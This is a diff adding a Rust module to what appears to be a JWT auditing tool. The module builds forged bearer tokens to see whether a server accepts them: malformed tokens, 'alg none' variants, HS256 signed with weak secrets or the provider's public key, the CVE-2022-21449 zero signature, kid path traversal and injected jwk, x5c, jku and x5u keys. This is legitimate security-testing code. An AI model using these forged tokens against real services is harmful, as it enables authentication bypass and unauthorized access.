@@ -1,0 +1,158 @@
+//! Forged tokens: what somebody can make who knows the provider's public documents, and its private key not.
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+use jsonwebtoken::Algorithm;
+use serde_json::{Value, json};
+
+use super::AuditError;
+use super::attack::{Attack, Expect, Family, bearer};
+use super::forge::{OwnKey, hs256, message, now};
+use super::lure::Lure;
+use super::target::{Issuer, PublicKey};
+use app::resources;
+
+/// Who forges in the name of one issuer.
+pub struct Forger {
+    /// In whose name.
+    pub issuer: Issuer,
+    /// With which key.
+    pub own: OwnKey,
+    algorithm: String,
+    audiences: Vec<String>,
+}
+
+impl Forger {
+    /// A forger in the name of `issuer`, of tokens for `audiences`.
+    ///
+    /// # Errors
+    /// When the system has no randomness to give.
+    pub fn new(issuer: Issuer, audiences: Vec<String>) -> Result<Self, AuditError> {
+        let algorithm = issuer.key.as_ref().map_or(Algorithm::RS256, |key| key.algorithm);
+        Ok(Self { own: OwnKey::generate(algorithm)?, algorithm: format!("{algorithm:?}"), issuer, audiences })
+    }
+
+    /// The claims of a token that would open everything, as JSON.
+    fn claims(&self) -> String {
+        json!({
+            "iss": self.issuer.name, "sub": "portcullis-audit", "aud": self.audiences, "client_id": "portcullis-audit",
+            "jti": "portcullis-audit", "iat": now(), "exp": now() + 3600, "scope": resources::scopes().join(" "),
+        })
+        .to_string()
+    }
+
+    /// The header of a good token, with `change` made to it; a change to null removes a member.
+    fn header(&self, change: &Value) -> String {
+        let mut header = json!({"alg": self.algorithm, "typ": "at+jwt"});
+        if let Some(PublicKey { id: Some(id), .. }) = &self.issuer.key {
+            header["kid"] = json!(id);
+        }
+        let members = header.as_object_mut().into_iter().zip(change.as_object());
+        for (header, change) in members {
+            header.extend(change.clone());
+            header.retain(|_, value| !value.is_null());
+        }
+        header.to_string()
+    }
+
+    /// A token by the forger's own key, with `change` made to its header.
+    ///
+    /// # Errors
+    /// When the system has no randomness to give.
+    pub fn token(&self, change: &Value) -> Result<String, AuditError> {
+        Ok(self.own.sign(&self.header(change), &self.claims())?)
+    }
+}
+
+fn of(name: impl Into<String>, token: &str) -> Attack {
+    Attack::new(Family::Forged, name, bearer(token))
+}
+
+/// Tokens that are none: their form is wrong, whoever signed them.
+pub(super) fn broken(forger: &Forger) -> Result<Vec<Attack>, AuditError> {
+    let good = forger.token(&json!({}))?;
+    let (head, claims) = (forger.header(&json!({})), forger.claims());
+    let (message, signature) = good.rsplit_once('.').unwrap_or_default();
+    let payload = message.split_once('.').unwrap_or_default().1;
+    let twice = |json: &str, member: &str| format!("{{{member},{}", &json[1..]);
+    let list = |json: &str| format!("[{json}]");
+    let own = |head: &str, claims: &str| forger.own.sign(head, claims);
+    Ok(vec![
+        of("no JWT", "portcullis-audit-sends-no-token-here"),
+        of("two parts", message),
+        of("four parts", &format!("{good}.{payload}")),
+        of("five parts", &format!("{good}.{payload}.{signature}")),
+        of("dots alone", ".."),
+        of("a header that is no JSON", &own("portcullis audit, no JSON", &claims)?),
+        of("a header that is a list", &own(&list(&head), &claims)?),
+        of("claims that are a list", &own(&head, &list(&claims))?),
+        of("claims that are no JSON", &own(&head, "portcullis audit, no JSON")?),
+        of("alg twice in the header", &own(&twice(&head, r#""alg":"none""#), &claims)?),
+        of("a claim twice", &own(&head, &twice(&claims, r#""scope":"""#))?),
+        of("a padded header", &good.replacen('.', "=.", 1)),
+        of(
+            "20,000 letters",
+            &format!("{}.{}.{signature}", good.split('.').next().unwrap_or_default(), "A".repeat(20_000)),
+        )
+        .expecting(Expect::UnknownOrUnreadable),
+    ])
+}
+
+/// Tokens in their right form, with every trick that made some server take one. `suffix` tells issuers apart.
+pub(super) fn signed(forger: &Forger, suffix: &str, lure: &Lure) -> Result<Vec<Attack>, AuditError> {
+    let claims = forger.claims();
+    let head = |change: Value| forger.header(&change);
+    let own = |change: Value| forger.token(&change);
+    let unsigned = |change: Value| format!("{}.", message(&head(change), &claims));
+    let hmac = |secret: &[u8]| hs256(&head(json!({"alg": "HS256"})), &claims, secret);
+    let jwk = {
+        let mut jwk = forger.own.jwk.clone();
+        jwk["kid"] = json!("portcullis-audit");
+        jwk
+    };
+    let with_zeros = |algorithm: &str| {
+        let signature = "A".repeat(86); // Two numbers of 32 bytes, both zero (CVE-2022-21449).
+        format!("{}.{signature}", message(&head(json!({"alg": algorithm})), &claims))
+    };
+    let mut attacks = vec![
+        of("alg none", &unsigned(json!({"alg": "none"}))),
+        of("alg None", &unsigned(json!({"alg": "None"}))),
+        of("alg NONE", &unsigned(json!({"alg": "NONE"}))),
+        of("alg nOnE", &unsigned(json!({"alg": "nOnE"}))),
+        of("alg none, kid none", &unsigned(json!({"alg": "none", "kid": "none"}))),
+        of("alg none with a signature", &own(json!({"alg": "none"}))?),
+        of("an empty alg", &unsigned(json!({"alg": ""}))),
+        of("no alg", &own(json!({"alg": null}))?),
+        of("HS256, an empty secret", &hmac(b"")),
+        of("HS256, the secret secret", &hmac(b"secret")),
+        of("ES256 with zeros", &with_zeros("ES256")),
+        of("own key, no kid", &own(json!({"kid": null}))?),
+        of("own key, unknown kid", &own(json!({"kid": "portcullis-audit"}))?),
+        of("own key, kid is a path", &own(json!({"kid": "../../../../../../dev/null"}))?),
+        of("own key, kid is a list", &own(json!({"kid": ["portcullis-audit"]}))?),
+        of("own key in jwk", &own(json!({"kid": "portcullis-audit", "jwk": jwk}))?),
+        of("own key in x5c", &own(json!({"kid": null, "x5c": [STANDARD.encode(&forger.own.certificate)]}))?),
+        of("a critical extension", &own(json!({"crit": ["exp"], "exp": now() + 3600}))?),
+        of("an unencoded payload (b64)", &own(json!({"crit": ["b64"], "b64": false}))?),
+        of("the type of another token", &own(json!({"typ": "logout+jwt"}))?),
+    ];
+    for (name, change, path) in [
+        ("own key by jku", json!({"kid": "portcullis-audit", "jku": lure.at("/jku", suffix)}), "/jku"),
+        ("own key by x5u", json!({"kid": null, "x5u": lure.at("/x5u", suffix)}), "/x5u"),
+    ] {
+        attacks.push(Attack { lure: Some(path), ..of(name, &own(change)?) });
+    }
+    if let Some(PublicKey { id, pem, bytes, .. }) = &forger.issuer.key {
+        attacks.push(of("HS256, public key as PEM", &hmac(pem.as_bytes())));
+        attacks.push(of("HS256, public key as trimmed PEM", &hmac(pem.trim_end().as_bytes())));
+        attacks.push(of("HS256, public key as bytes", &hmac(bytes)));
+        if id.is_some() {
+            attacks.push(of("own key, the provider's kid", &own(json!({}))?));
+        }
+    }
+    for attack in &mut attacks {
+        attack.name += suffix;
+    }
+    lure.offer(suffix, jwk, &forger.own.certificate);
+    Ok(attacks)
+}
